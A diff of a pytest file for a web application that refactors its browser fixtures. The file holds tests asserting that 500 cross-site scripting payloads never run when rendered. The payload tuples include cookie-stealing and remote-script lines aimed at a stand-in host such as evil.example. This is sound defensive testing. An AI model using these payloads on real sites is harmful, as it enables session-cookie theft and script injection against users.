@@ -5,29 +5,18 @@ from __future__ import annotations
 import datetime as dt
 import pathlib
 import shutil
-import sys
 from collections.abc import Callable
 from typing import Any
 from urllib.parse import quote
 
 import pytest
 
+import looks
 from marsad.ledger import Ledger
 from marsad.model import Rejection
 from marsad.web.app import create_app
-from marsad.web.deps import assets
 from marsad.web.jobs import Job, Line
 
-sys.path.append(str(pathlib.Path(__file__).parent.parent.parent / "bench"))
-import looks
-
-CHROMIUM = pathlib.Path("/usr/bin/chromium")
-pytestmark = [
-    pytest.mark.browser,
-    pytest.mark.xdist_group("browser"),
-    pytest.mark.skipif(not CHROMIUM.exists(), reason="Chromium is not installed: apt-get install chromium"),
-    pytest.mark.skipif(not assets(), reason="the front end is not built: python scripts/frontend.py"),
-]
 CALLS = ("hit()", "alert(1)", "window.hit=1", "top.hit=1", "fetch('//evil.example/'+document.cookie)", "import('//evil.example/x.js')", "new Image().src='//evil.example/'")
 ELEMENTS = (
     "<script>{c}</script>", "<script src=//evil.example/x.js></script>", "<img src=x onerror={c}>", "<svg onload={c}>", "<svg><script>{c}</script></svg>", "<body onload={c}>",
@@ -50,7 +39,7 @@ def test_there_are_five_hundred_different_ones() -> None:
     assert len(set(PAYLOADS)) == len(PAYLOADS) == 500
 
 
-def test_none_runs(chromium_once: Any, sample_db: pathlib.Path, tmp_path: pathlib.Path, poison: Callable[[Ledger], list[str]], monkeypatch: pytest.MonkeyPatch) -> None:
+def test_none_runs(new_page: Callable[..., Any], sample_db: pathlib.Path, tmp_path: pathlib.Path, poison: Callable[[Ledger], list[str]], monkeypatch: pytest.MonkeyPatch) -> None:
     for start in range(0, len(PAYLOADS), BATCH):
         words = " ".join(PAYLOADS[start : start + BATCH])
         copy = shutil.copy(sample_db, tmp_path / f"{start}.db")
@@ -68,9 +57,8 @@ def test_none_runs(chromium_once: Any, sample_db: pathlib.Path, tmp_path: pathli
         job.lines.append(Line(words, (("perpetrators", (), ({"text": words, "actor": words},)), ("time", (), ()), ("materiel", ({"text": words},), (words,)))))
         app.state.desk.jobs._jobs["bad"] = job  # as a run over files with such names leaves one
         with looks.served(app) as base:
-            context = chromium_once.new_context()
-            page, seen = context.new_page(), []
-            context.add_init_script("addEventListener('securitypolicyviolation', e => (window.reports ??= []).push(e.blockedURI + e.violatedDirective)); window.hit = () => { window.ran = true }")
+            page, seen = new_page(), []
+            page.add_init_script("addEventListener('securitypolicyviolation', e => (window.reports ??= []).push(e.blockedURI + e.violatedDirective)); window.hit = () => { window.ran = true }")
             page.on("request", lambda r, base=base, seen=seen: seen.append(r.url) if not r.url.startswith((base, "data:", "blob:")) else None)
             page.on("dialog", lambda d, seen=seen: (seen.append(d.message), d.dismiss()))
             typed = quote(words[:190])
@@ -84,28 +72,17 @@ def test_none_runs(chromium_once: Any, sample_db: pathlib.Path, tmp_path: pathli
                 assert page.evaluate("window.reports ?? []") == [], (path, start)
                 assert page.evaluate("document.querySelectorAll('main script, main iframe, main object, main embed, main base, main meta, main link, main style, main [onerror], main [onload], main [srcdoc]').length") == 0, path
             assert seen == [], start
-            context.close()
+            page.context.close()
 
 
-def test_with_the_network_cut_every_page_is_whole(chromium_once: Any, sample_db: pathlib.Path, tmp_path: pathlib.Path) -> None:
+def test_with_the_network_cut_every_page_is_whole(new_page: Callable[..., Any], sample_db: pathlib.Path, tmp_path: pathlib.Path) -> None:
     app = create_app(f"sqlite:///{shutil.copy(sample_db, tmp_path / 'cut.db')}", store=tmp_path / "store", sources=tmp_path / "sources.yml", lexicon_folder=tmp_path / "lexicon")
     with looks.served(app) as base:
-        context = chromium_once.new_context()
+        page = new_page()
         asked: list[str] = []
         failed: list[str] = []
-        context.route(lambda url: not url.startswith((base, "data:", "blob:")), lambda route: (asked.append(route.request.url), route.abort()))
-        page = context.new_page()
+        page.context.route(lambda url: not url.startswith((base, "data:", "blob:")), lambda route: (asked.append(route.request.url), route.abort()))
         page.on("requestfailed", lambda r: failed.append(f"{r.url} {r.failure}"))
         for path in looks.addresses(page, base):
             page.goto(base + path, wait_until="networkidle")
         assert asked == [] and [f for f in failed if "ERR_ABORTED" not in f] == []  # what is under way when the next page is asked for is let go
-        context.close()
-
-
-@pytest.fixture(scope="module")
-def chromium_once() -> Any:
-    playwright = pytest.importorskip("playwright.sync_api")
-    with playwright.sync_playwright() as p:
-        browser = p.chromium.launch(executable_path=str(CHROMIUM), headless=True, args=[*looks.FLAGS, "--host-resolver-rules=MAP * ~NOTFOUND, EXCLUDE 127.0.0.1"])
-        yield browser
-        browser.close()
